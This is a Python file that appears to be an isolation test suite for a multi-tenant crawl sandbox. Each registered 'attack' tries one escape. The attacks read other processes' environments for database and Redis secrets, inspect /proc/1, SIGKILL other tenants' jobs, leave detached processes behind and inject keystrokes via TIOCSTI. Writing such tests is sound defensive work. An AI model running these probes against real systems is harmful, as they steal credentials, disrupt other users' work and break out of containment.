import os
import signal
import subprocess
import sys
import time

from .registry import attack, first


def _pids():
    return [int(name) for name in os.listdir('/proc') if name.isdigit()]


def _text(pid, name):
    try:
        with open(f'/proc/{pid}/{name}', 'rb') as file:
            return file.read().replace(b'\0', b' ').decode('latin1')
    except OSError:
        return ''


def _family():
    """Processes of this crawl: itself, what stands above it in its box, and what it started."""
    return {0, os.getpid(), os.getppid()}


@attack('see processes that are not its own')
def _(know):
    foreign = [f'{pid} {_text(pid, "cmdline")[:60]}' for pid in _pids() if pid not in _family() and _text(pid, 'cmdline')]
    return first(one for one in foreign if 'attacks' not in one) if len(foreign) > 2 else None


@attack('read the environment of the service')
def _(know):
    words = ('DATABASE_URL', 'REDIS_URL', know['mark'])
    return first(f'{pid}: {word}' for pid in _pids() for word in words if word in _text(pid, 'environ') and pid != os.getpid())


@attack('find secrets of the service in its own environment or command line')
def _(know):
    mine = _text('self', 'environ') + _text('self', 'cmdline') + ' '.join(f'{k}={v}' for k, v in os.environ.items())
    return first(word for word in ('DATABASE_URL', 'REDIS_URL', 'postgres', know['mark']) if word in mine)


def _crawls_of_others(know):
    """Processes that work in a folder of a job, and not in ours."""
    for pid in _pids():
        try:
            where = os.readlink(f'/proc/{pid}/cwd')
        except OSError:
            continue
        if where.startswith(os.path.join(know['home'], 'work')) and where != os.getcwd() and pid not in _family():
            yield pid


@attack("read another tenant's crawl")
def _(know):
    return first(f'{pid} {os.readlink(f"/proc/{pid}/cwd")}' for pid in _crawls_of_others(know))


@attack('signal processes of the service')
def _(know):
    found = []
    for pid in _pids():
        if pid in _family() or not any(word in _text(pid, 'cmdline') for word in ('node', 'postgres', 'valkey', 'redis', 'fork_server', 'shim')):
            continue
        try:
            os.kill(pid, 0)
            found.append(pid)
        except OSError:
            pass
    return first(found)


@attack("kill another tenant's crawl")
def _(know):
    found = []
    for pid in _crawls_of_others(know):
        os.kill(pid, signal.SIGKILL)
        found.append(pid)
    return first(found)


@attack('go to the root of process 1')
def _(know):
    os.chdir('/proc/1/root')
    names = os.listdir('/proc/1/root')
    return first(names) if names else None


@attack('see what process 1 has')
def _(know):
    found = []
    for name in ('environ', 'mem', 'maps', 'fd', 'cwd', 'exe', 'mountinfo'):
        path = f'/proc/1/{name}'
        try:
            if name in ('fd', 'cwd'):
                found += [f'{path}/{one}' for one in os.listdir(path)]
            elif name == 'exe':
                found.append(os.readlink(path))
            elif name != 'mountinfo':
                with open(path, 'rb') as file:
                    file.read(1)
                    found.append(path)
        except OSError:
            pass
    return first(found)


SURVIVOR = '''
import os, sys, time
if os.fork(): os._exit(0)
os.setsid()
if os.fork(): os._exit(0)
for number in range(3, 256):
    try: os.close(number)
    except OSError: pass
time.sleep(120)
'''


@attack('leave processes behind')
def _(know):
    # Whether they outlive the job, those outside look up by the name.
    subprocess.run([sys.executable, '-S', '-c', SURVIVOR, f'survivor-{know["mark"]}'], check=True)
    return None


@attack('change what later jobs run, in a warm server')
def _(know):
    parent = os.getppid()
    text = _text(parent, 'cmdline')
    if parent != 1 and ('fork_server' in text or 'shim' in text):
        os.kill(parent, 0)
        return f'parent {parent} is {text[:80]} and can be signalled'


@attack('put words into a terminal')
def _(know):
    import fcntl
    import termios
    with open('/dev/tty', 'wb') as terminal:
        fcntl.ioctl(terminal, termios.TIOCSTI, b'\n')
    return 'a terminal took them'
